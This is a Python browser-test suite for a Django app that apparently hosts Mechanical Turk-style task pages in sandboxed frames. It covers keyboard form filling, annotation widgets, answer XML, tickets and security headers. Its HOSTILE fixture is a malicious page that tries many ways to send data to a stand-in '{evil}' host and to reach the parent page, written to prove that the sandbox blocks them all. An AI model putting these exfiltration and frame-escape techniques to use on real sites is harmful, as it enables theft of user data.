"""Pages of requesters in a browser: shown, filled, handed in through the real submit, and reaching nothing."""

from __future__ import annotations

import base64
import json

import httpx
import pytest
from django.conf import settings
from django.test import Client

from lifecycle.digest import digest_due
from mturk import answers, ids
from mturk.frames.ticket import new_ticket
from mturk.models import AnswerFile, PendingAnswer
from tests.mturk.frames_site import (
    external_question,
    form_question,
    html_question,
    opened,
    other_host,
    post,
    session_of,
    taken,
    task_answers,
)

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.browser]

PLAIN = """<!DOCTYPE html><html><head><script src="https://s3.amazonaws.com/mturk-public/externalHIT_v1.js"></script></head>
<body><form name="mturk_form" id="mturk_form" method="post" action="https://www.mturk.com/mturk/externalSubmit">
<input type="hidden" value="" name="assignmentId" id="assignmentId">
<label>City <input name="city"></label>
<label><input type="radio" name="size" value="small">small</label>
<label><input type="radio" name="size" value="large">large</label>
<input type="submit" id="submitButton" value="Send"></form>
<script>turkSetAssignmentID();</script></body></html>"""


def test_a_page_with_a_form_of_amazon_is_filled_by_keyboard_and_handed_in(page, frame_site, requester, make_worker):
    row = post(requester, html_question(PLAIN))
    stage = opened(page, frame_site, make_worker(), row)

    stage.frame.get_by_label("City").press_sequentially("Łódź")
    page.keyboard.press("Tab")
    page.keyboard.press("Space")
    page.keyboard.press("ArrowDown")
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")

    assignment = stage.handed_in()
    assert assignment.state == "submitted"
    said = assignment.answers.get().data["answers"]
    assert answers.fields_of({"answers": said}) == [("city", "Łódź"), ("size", "large")]
    assert said["size"] == "large"
    digest_due()
    assert stage.errors == []


EVERYTHING = """<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>
<crowd-form>
<crowd-classifier name="mood" categories="['Glad', 'Sad']" header="Mood?"><classification-target>Hm.</classification-target>
<full-instructions header="All of it"><p>Long.</p></full-instructions><short-instructions>Short.</short-instructions></crowd-classifier>
<crowd-classifier-multi-select name="tags" categories="['one', 'two']" header="Tags?" exclusion-category="{ text: 'None' }"></crowd-classifier-multi-select>
<crowd-input name="word" label="A word" required min-length="2"></crowd-input>
<crowd-text-area name="essay" label="More" rows="2" char-counter></crowd-text-area>
<crowd-checkbox name="flags" value="dim">Dim</crowd-checkbox><crowd-checkbox name="flags" value="blurry">Blurry</crowd-checkbox>
<crowd-toggle-button name="on" value="yes">On</crowd-toggle-button>
<crowd-radio-group><crowd-radio-button name="cat" value="Cat">Cat</crowd-radio-button><crowd-radio-button name="dog" value="Dog">Dog</crowd-radio-button></crowd-radio-group>
<crowd-slider name="much" min="1" max="5" required pin></crowd-slider>
<select name="pick" aria-label="Pick"><option value="">-</option><option>red</option><option>blue</option></select>
<label><input type="radio" name="plain" value="p"> p</label><label><input type="radio" name="plain" value="q"> q</label>
<crowd-instructions link-text="How" link-type="button"><short-summary>Sum.</short-summary><positive-example>Good.</positive-example></crowd-instructions>
<crowd-tabs><crowd-tab header="First">1</crowd-tab><crowd-tab header="Second">2</crowd-tab></crowd-tabs>
<crowd-modal link-text="See">Inside.</crowd-modal><crowd-alert type="warning" dismissible>Mind.</crowd-alert><crowd-card heading="Card">Body.</crowd-card>
<crowd-icon-button icon="star" title="Star"></crowd-icon-button><crowd-fab label="?" title="Ask"></crowd-fab><crowd-toast text="Hello" duration="0"></crowd-toast>
<p id="b">here</p><crowd-badge label="3" for="b"></crowd-badge>
</crowd-form>"""  # noqa: E501


def keys(page, *pressed):
    for key in pressed:
        page.keyboard.press(key)


def test_crowd_elements_that_choose_and_type(page, frame_site, requester, make_worker):
    stage = opened(page, frame_site, make_worker(), post(requester, html_question(EVERYTHING)))
    frame = stage.frame

    frame.get_by_role("button", name="Submit").focus()
    keys(page, "Enter")
    assert frame.get_by_role("alert").filter(has_text="Choose an answer").count()
    frame.get_by_role("radio", name="Glad").focus()
    keys(page, "Space", "ArrowDown", "Tab", "Space", "Tab", "Tab")  # Sad; one; past two to None
    keys(page, "Tab")
    page.keyboard.type("a")
    frame.get_by_role("button", name="Submit").focus()
    keys(page, "Enter")
    assert frame.get_by_text("At least 2 characters.").count()
    page.keyboard.type("b")  # the first that is wrong has the focus
    keys(page, "Tab")
    page.keyboard.type("long")
    keys(
        page,
        "Tab",
        "Space",
        "Tab",
        "Tab",
        "Space",
        "Tab",
        "Space",
        "ArrowDown",
        "Tab",
        "ArrowRight",
        "ArrowRight",
        "Tab",
    )
    keys(page, "ArrowDown", "Tab", "Space")
    frame.get_by_role("button", name="Submit").focus()
    keys(page, "Enter")

    said = task_answers(stage.handed_in())
    assert said == {
        "mood": {"label": "Sad"},
        "tags": {"labels": ["one"]},
        "word": "ab",
        "essay": "long",
        "flags": {"dim": True, "blurry": False},
        "on": {"yes": True},
        "cat": {"Cat": False},
        "dog": {"Dog": True},
        "much": 3,
        "pick": "red",
        "plain": {"p": True, "q": False},
    }
    derived = stage.assignment.answers.get().data["answers"]
    assert derived["mood"] == "Sad" and derived["tags"] == ["one"] and derived["much"] == 3
    assert derived["flags"] == ["dim"] and derived["pick"] == "red" and derived["plain"] == "p"
    assert derived["cat_dog"] == "dog"
    assert stage.errors == []


PICTURE = (
    "data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' width='400' height='200'%3E"
    "%3Crect width='400' height='200' fill='teal'/%3E%3C/svg%3E"
).replace("'", "&#39;")
BEGIN = {
    "crowd-bounding-box": "[{label: &#39;Dog&#39;, left: 10, top: 20, width: 30, height: 40}]",
    "crowd-line": "{lines: [{label: &#39;Dog&#39;, vertices: [{x: 1, y: 2}, {x: 3, y: 4}]}]}",
}


def drawing(element):
    begin = f' initial-value="{BEGIN[element]}"' if element in BEGIN else ""
    return (
        f'<crowd-{element.removeprefix("crowd-")} name="drawn" src="{PICTURE}" header="Mark"'
        f" labels=\"['Cat', 'Dog']\"{begin}><short-instructions>Mark it.</short-instructions></{element}>"
    )


def test_pictures_are_marked_by_keyboard(page, frame_site, requester, make_worker):
    elements = ("crowd-bounding-box", "crowd-polygon", "crowd-polyline", "crowd-line", "crowd-keypoint")
    elements += ("crowd-semantic-segmentation", "crowd-instance-segmentation")
    pressed = {
        "crowd-bounding-box": ["2", "Space", "ArrowRight", "ArrowDown", "Space"],
        "crowd-polygon": ["Space", "ArrowRight", "Space", "ArrowDown", "Space", "Enter"],
        "crowd-polyline": ["Space", "ArrowRight", "Space", "Enter"],
        "crowd-line": ["1", "Space", "Shift+ArrowRight", "Space"],
        "crowd-keypoint": ["2", "Space", "ArrowLeft", "1", "Space"],
        "crowd-semantic-segmentation": [
            "1",
            "Space",
            "p",
            *["Space", "ArrowRight", "Space", "ArrowDown", "Space", "Enter"],
        ],
        "crowd-instance-segmentation": ["2", "Space"],
    }
    expected = {
        "crowd-bounding-box": {
            "initialValueModified": True,
            "boundingBoxes": [
                {"height": 40, "label": "Dog", "left": 10, "top": 20, "width": 30},
                {"height": 8, "label": "Dog", "left": 200, "top": 100, "width": 8},
            ],
        },
        "crowd-polygon": {"polygons": [{"label": "Cat", "vertices": [[200, 100], [208, 100], [208, 108]]}]},
        "crowd-polyline": {"polylines": [{"label": "Cat", "vertices": [[200, 100], [208, 100]]}]},
        "crowd-line": {
            "initialValueModified": True,
            "lines": [
                {"label": "Dog", "vertices": [[1, 2], [3, 4]]},
                {"label": "Cat", "vertices": [[200, 100], [201, 100]]},
            ],
        },
        "crowd-keypoint": {
            "keypoints": [{"label": "Dog", "x": 200, "y": 100}, {"label": "Cat", "x": 192, "y": 100}],
        },
        "crowd-semantic-segmentation": {"labelMappings": {"Cat": {"color": "#1f77b4"}}},
        "crowd-instance-segmentation": {"instances": [{"color": "#1f77b4", "label": "Dog"}]},
    }
    script = '<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>'
    worker = make_worker()
    for element in elements:
        row = post(requester, html_question(f"{script}<crowd-form>{drawing(element)}</crowd-form>"))
        stage = opened(page, frame_site, worker, row)
        board = stage.frame.get_by_role("application")
        board.wait_for()
        stage.frame.locator(f"{element} img").wait_for(state="visible")
        stage.frame.locator(element).evaluate(
            "async (one) => { while (!one.begun) await new Promise((f) => setTimeout(f, 20)); }"
        )
        board.focus()
        keys(page, *pressed[element])
        stage.frame.get_by_role("button", name="Submit").focus()
        keys(page, "Enter")

        said = task_answers(stage.handed_in())["drawn"]
        assert said.pop("inputImageProperties") == {"height": 200, "width": 400}, element
        image = said.pop("labeledImage", None)
        if image:
            assert base64.b64decode(image["pngImageData"]).startswith(b"\x89PNG"), element
        wanted = json.loads(json.dumps(expected[element]), object_hook=points)
        assert said == wanted, element
        assert stage.errors == []


def points(found):
    if "vertices" in found:
        found["vertices"] = [{"x": x, "y": y} for x, y in found["vertices"]]
    return found


def test_a_text_is_marked_by_keyboard_and_hands_itself_in(page, frame_site, requester, make_worker):
    html = """<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>
    <crowd-entity-annotation name="found" header="Mark" text="🦊 Ada met Bob."
      labels="[{'label': 'person', 'shortDisplayName': 'per', 'fullDisplayName': 'Person'}, 'place']">
      <short-instructions>Mark names.</short-instructions>
      <div id="more"><crowd-input name="note" label="Note"></crowd-input></div>
    </crowd-entity-annotation>
    <script>document.addEventListener("all-crowd-elements-ready", () =>
      document.querySelector("crowd-entity-annotation").shadowRoot.querySelector("crowd-form").form.appendChild(more));</script>"""
    stage = opened(page, frame_site, make_worker(), post(requester, html_question(html)))
    board = stage.frame.get_by_role("application")

    board.focus()
    keys(page, "ArrowRight", "ArrowRight", *["Shift+ArrowRight"] * 3, "1")
    keys(page, *["ArrowRight"] * 5, *["Shift+ArrowRight"] * 3, "2", "Backspace", *["Shift+ArrowLeft"] * 3, "1")
    stage.frame.get_by_label("Note").press_sequentially("two")
    stage.frame.get_by_role("button", name="Submit").focus()
    keys(page, "Enter")

    assert task_answers(stage.handed_in()) == {
        "found": {
            "entities": [
                {"endOffset": 5, "label": "person", "startOffset": 2},
                {"endOffset": 13, "label": "person", "startOffset": 10},
            ]
        },
        "note": "two",
    }
    assert stage.errors == []


HOSTILE = """<html><head><base href="{evil}/base/"><link rel="stylesheet" href="{evil}/style"><link rel="prefetch" href="{evil}/prefetch">
<link rel="dns-prefetch" href="{evil}"><meta name="referrer" content="unsafe-url"><style>@import "{evil}/import"; body {{ background: url({evil}/css) }}</style></head>
<body><img src="{evil}/img"><img srcset="{evil}/srcset 2x"><audio src="{evil}/audio" autoplay></audio><video poster="{evil}/poster"></video><iframe src="{evil}/iframe"></iframe>
<object data="{evil}/object"></object><embed src="{evil}/embed"><svg><image href="{evil}/svg"/><script>fetch("{evil}/svgscript")</script></svg><script src="{evil}/script"></script>
<form id="out" action="{evil}/form" method="post"><input name="secret" value="1"></form><a id="top" target="_top" href="{evil}/anchor">go</a>
<script>
window.reached = [];
const tries = {{
  fetch: () => fetch("{evil}/fetch"), beacon: () => {{ if (!navigator.sendBeacon("{evil}/beacon", "x")) throw 1; }},
  xhr: () => {{ const x = new XMLHttpRequest(); x.open("GET", "{evil}/xhr"); x.send(); }}, ws: () => new WebSocket("{evil}/ws".replace("http", "ws")),
  image: () => {{ new Image().src = "{evil}/newimage"; }}, events: () => new EventSource("{evil}/events"), worker: () => new Worker("{evil}/worker"),
  opened: () => {{ if (window.open("{evil}/open")) reached.push("open"); }}, cookie: () => {{ document.cookie = "a=1"; reached.push("cookie:" + document.cookie); }},
  top: () => {{ window.top.location = "{evil}/top"; }}, parentDom: () => {{ reached.push(parent.document.title); }}, parentStore: () => {{ reached.push(String(parent.localStorage)); }},
  indexed: () => {{ indexedDB.open("x"); reached.push("indexed"); }}, form: () => document.getElementById("out").submit(), anchor: () => document.getElementById("top").click(),
  import: () => import("{evil}/module.js"), flood: () => {{ for (let n = 0; n < 300; n += 1) parent.postMessage({{frame: "x" + n, kind: "done", href: "{evil}"}}, "*"); }},
  forged: () => {{ const nonce = JSON.parse(document.getElementById("frame-about").textContent).nonce; parent.postMessage({{frame: nonce, kind: "done"}}, "*"); parent.postMessage({{frame: nonce, kind: "height", height: 1e9}}, "*"); }},
}};
for (const [name, act] of Object.entries(tries)) try {{ const made = act(); made?.catch?.(() => {{}}); }} catch (error) {{ }}
document.title = "tried";
setTimeout(() => {{ try {{ location = "{evil}/self"; }} catch (error) {{ }} }}, 300);
</script></body></html>"""  # noqa: E501


def test_a_hostile_page_reaches_nothing(page, frame_site, requester, make_worker):
    with other_host(lambda path, body: "reached") as (evil, heard):
        stage = opened(page, frame_site, make_worker(), post(requester, html_question(HOSTILE.format(evil=evil))))
        before = page.url
        page.wait_for_timeout(2500)
        frame = next((one for one in page.frames if one.url.startswith(settings.FRAME_ORIGIN)), None)
        reached = frame.evaluate("window.reached ?? []") if frame else []
        height = page.locator("iframe[data-frame]").evaluate("(one) => one.getBoundingClientRect().height")

    assert heard == []
    assert [one for one in reached if one not in ("cookie:",)] == []
    assert page.url == before and len(page.context.pages) == 1
    assert height <= 20_100
    stage.assignment.refresh_from_db()
    assert stage.assignment.state == "accepted" and not stage.assignment.answers.exists()
    assert not PendingAnswer.objects.exists()


OUTSIDE = """<!DOCTYPE html><title>Theirs</title><form method="post"><label>Say <input name="said"></label><button>Send</button></form>
<script>
const query = new URLSearchParams(location.search);
window.seen = Object.fromEntries(query);
const form = document.forms[0];
form.action = query.get("turkSubmitTo") + "/mturk/externalSubmit";
for (const name of ["assignmentId"]) { const one = document.createElement("input"); one.type = "hidden"; one.name = name; one.value = query.get(name); form.append(one); }
try { parent.parent.document.title; window.reached = true; } catch { window.reached = false; }
document.title = document.cookie;
</script>"""  # noqa: E501


def test_an_external_page_is_on_its_own_host_and_hands_in_with_the_ticket(page, frame_site, requester, make_worker):
    with other_host(lambda path, body: OUTSIDE) as (origin, heard):
        row = post(requester, external_question(f"{origin}/task?item=7"))
        stage = opened(page, frame_site, make_worker(), row)
        inner = stage.frame.frame_locator("iframe")
        inner.get_by_label("Say").press_sequentially("yes & no")
        theirs = next(one for one in page.frames if one.url.startswith(origin))
        seen = theirs.evaluate("window.seen")
        assert theirs.evaluate("window.reached") is False and theirs.title() == ""
        assert page.get_by_text("127.0.0.3").first.is_visible()
        keys(page, "Tab", "Enter")
        assignment = stage.handed_in()

    assert seen["item"] == "7" and seen["assignmentId"] == ids.written(assignment.public_id)
    assert seen["hitId"] == ids.written(row.hit.data_row.public_id) and seen["workerId"].startswith("A")
    assert seen["turkSubmitTo"].startswith(settings.FRAME_ORIGIN + "/s/")
    assert answers.fields_of(assignment.answers.get().data) == [("said", "yes & no")]
    assert not any(b"session" in body for _method, _path, body in heard)


def test_a_post_without_a_ticket_waits_until_the_worker_confirms(page, frame_site, requester, make_worker, make_user):
    with other_host(lambda path, body: "<p>Wait.</p>") as (origin, _heard):
        stage = opened(page, frame_site, make_worker(), post(requester, external_question(f"{origin}/task")))
        assignment = stage.assignment
        fields = {"assignmentId": ids.written(assignment.public_id), "said": "by the server", "hitId": "x"}
        answer = httpx.post(f"{frame_site}/mturk/externalSubmit", data=fields)
        assert answer.status_code == 200 and "confirm" in answer.text
        assignment.refresh_from_db()
        assert assignment.state == "accepted" and not assignment.answers.exists()

        page.get_by_text("by the server").wait_for(timeout=15_000)
        page.get_by_role("button", name="Yes, hand it in").click()
        assignment = stage.handed_in()

    assert answers.fields_of(assignment.answers.get().data) == [("said", "by the server")]
    assert not PendingAnswer.objects.exists()
    again = httpx.post(f"{frame_site}/mturk/externalSubmit", data=fields)
    assert again.status_code == 409 and not PendingAnswer.objects.exists()
    unknown = httpx.post(f"{frame_site}//mturk/externalSubmit", data={**fields, "assignmentId": "3" + "0" * 25})
    assert unknown.status_code == 404


FORM = """<Overview><Title>Read</Title><FormattedContent><![CDATA[<p>Look at <b>this</b>&nbsp;<a href="https://a.example/">page</a>.</p>]]></FormattedContent>
<List><ListItem>one</ListItem></List></Overview>
<Question><QuestionIdentifier>year</QuestionIdentifier><IsRequired>true</IsRequired><QuestionContent><Text>Which year?</Text></QuestionContent>
<AnswerSpecification><FreeTextAnswer><Constraints><IsNumeric minValue="1900" maxValue="2000"/><Length minLength="4" maxLength="4"/>
<AnswerFormatRegex regex="^19\\d\\d$" errorText="A year of the century, please."/></Constraints></FreeTextAnswer></AnswerSpecification></Question>
<Question><QuestionIdentifier>hand</QuestionIdentifier><IsRequired>true</IsRequired><QuestionContent><Text>Whose hand?</Text></QuestionContent>
<AnswerSpecification><SelectionAnswer><StyleSuggestion>radiobutton</StyleSuggestion><Selections><Selection><SelectionIdentifier>left</SelectionIdentifier><Text>Left</Text></Selection>
<Selection><SelectionIdentifier>right</SelectionIdentifier><FormattedContent><![CDATA[<i>Right</i>]]></FormattedContent></Selection></Selections></SelectionAnswer></AnswerSpecification></Question>
<Question><QuestionIdentifier>seen</QuestionIdentifier><QuestionContent><Text>What is there?</Text></QuestionContent>
<AnswerSpecification><SelectionAnswer><MinSelectionCount>1</MinSelectionCount><MaxSelectionCount>2</MaxSelectionCount><StyleSuggestion>checkbox</StyleSuggestion><Selections>
<Selection><SelectionIdentifier>ink</SelectionIdentifier><Text>Ink</Text></Selection><Selection><SelectionIdentifier>seal</SelectionIdentifier><Text>Seal</Text></Selection>
<OtherSelection><NumberOfLinesSuggestion>1</NumberOfLinesSuggestion></OtherSelection></Selections></SelectionAnswer></AnswerSpecification></Question>
<Question><QuestionIdentifier>scan</QuestionIdentifier><QuestionContent><Text>Your scan</Text></QuestionContent>
<AnswerSpecification><FileUploadAnswer><MaxFileSizeInBytes>1000</MaxFileSizeInBytes><MinFileSizeInBytes>2</MinFileSizeInBytes></FileUploadAnswer></AnswerSpecification></Question>"""  # noqa: E501


def test_a_question_form_is_checked_filled_and_becomes_xml(page, frame_site, requester, make_worker):
    stage = opened(page, frame_site, make_worker(), post(requester, form_question(FORM)))
    frame = stage.frame

    frame.get_by_label("Which year?").press_sequentially("2051")
    keys(page, "Enter")
    frame.get_by_text("At most 2000.").wait_for()
    keys(page, "Control+a")
    page.keyboard.type("1951")
    keys(page, "Tab", "Space", "ArrowDown", "Tab", "Tab", "Space")
    frame.get_by_label("Other").press_sequentially("a stain")
    frame.get_by_label("Your scan").set_input_files({"name": "s.png", "mimeType": "image/png", "buffer": b"12345"})
    frame.get_by_role("button", name="Submit").focus()
    keys(page, "Enter")

    answer = stage.handed_in().answers.get().data
    kept = AnswerFile.objects.get()
    assert kept.file.read() == b"12345"
    xml = answers.xml_of(answers.entries_of(answer)).partition('.xsd">')[2]
    assert xml == (
        "<Answer><QuestionIdentifier>year</QuestionIdentifier><FreeText>1951</FreeText></Answer>"
        "<Answer><QuestionIdentifier>hand</QuestionIdentifier><SelectionIdentifier>right</SelectionIdentifier></Answer>"
        "<Answer><QuestionIdentifier>seen</QuestionIdentifier><SelectionIdentifier>seal</SelectionIdentifier>"
        "<OtherSelectionText>a stain</OtherSelectionText></Answer>"
        "<Answer><QuestionIdentifier>scan</QuestionIdentifier><UploadedFileSizeInBytes>5</UploadedFileSizeInBytes>"
        f"<UploadedFileKey>{kept.key}</UploadedFileKey></Answer></QuestionFormAnswers>"
    )
    assert answer["answers"]["hand"] == "right" and answer["answers"]["seen"] == ["seal"]
    assert stage.errors == []


def test_the_two_names_serve_what_is_theirs(frame_site):
    frames = settings.FRAME_ORIGIN
    assert httpx.get(f"{frames}/f/nonsense/").status_code == 404
    assert httpx.get(f"{frame_site}/f/nonsense/").status_code == 404
    led = httpx.get(f"{frames}/accounts/login/")
    assert led.status_code == 302 and led.headers["location"] == f"{frame_site}/accounts/login/"
    assert httpx.post(f"{frames}/accounts/login/", data={"login": "x"}).status_code == 404
    assert httpx.post(f"{frames}/mturk/", content=b"{}").status_code == 404
    assert (
        f"frame-src 'self' {frames};" in httpx.get(f"{frame_site}/accounts/login/").headers["content-security-policy"]
    )


def test_a_ticket_ends_with_the_session_and_is_of_one_worker(frame_site, requester, make_worker):
    worker, row = make_worker(), post(requester, html_question(PLAIN), assignments=2)
    assignment = taken(worker, row)
    session = session_of(worker)
    token = new_ticket(assignment=assignment.public_id, session=session.session_key).seal()
    shown = httpx.get(f"{settings.FRAME_ORIGIN}/f/{token}/")
    assert shown.status_code == 200
    policy = shown.headers["content-security-policy"]
    assert "default-src 'none'" in policy and "sandbox allow-scripts allow-forms" in policy
    assert f"frame-ancestors {frame_site}" in policy and "connect-src 'none'" in policy

    other = session_of(make_worker())
    stolen = new_ticket(assignment=assignment.public_id, session=other.session_key).seal()
    for wrong in (stolen, token[:-3] + "AAA", "x"):
        answer = httpx.post(f"{settings.FRAME_ORIGIN}/s/{wrong}/mturk/externalSubmit", data={"city": "a"})
        assert answer.status_code == 403
    session.delete()
    answer = httpx.post(f"{settings.FRAME_ORIGIN}/s/{token}/mturk/externalSubmit", data={"city": "a"})
    assert answer.status_code == 403
    assignment.refresh_from_db()
    assert assignment.state == "accepted"


def test_a_stranger_sees_nothing_of_a_frame(requester, make_worker):
    client = Client()
    assignment = taken(make_worker(), post(requester, html_question(PLAIN)))
    client.force_login(make_worker().user)

    assert client.get(f"/work/{assignment.public_id}/frame/").status_code == 404
    assert client.post(f"/work/{assignment.public_id}/frame/confirm/").status_code == 404
    client.force_login(assignment.worker.user)
    assert client.get(f"/work/{assignment.public_id}/frame/").json() == {"state": "open"}
    refused = client.post(f"/work/{assignment.public_id}/frame/confirm/")
    assert refused.status_code == 409 and refused.json()["code"] == "nothing_waits"


def test_addresses_that_clients_print_lead_to_the_work(requester, make_worker):
    client = Client()
    row = post(requester, html_question(PLAIN))
    client.force_login(make_worker().user)
    for public_id in (row.hit_type.public_id, row.hit_type.group_id):
        for address in (
            f"/mturk/preview?groupId={ids.written(public_id)}",
            f"/projects/{ids.written(public_id)}/tasks",
        ):
            led = client.get(address)
            assert led.status_code == 302 and "Look+at+it" in led.url, address
    assert client.get("/mturk/preview?groupId=nonsense").status_code == 302
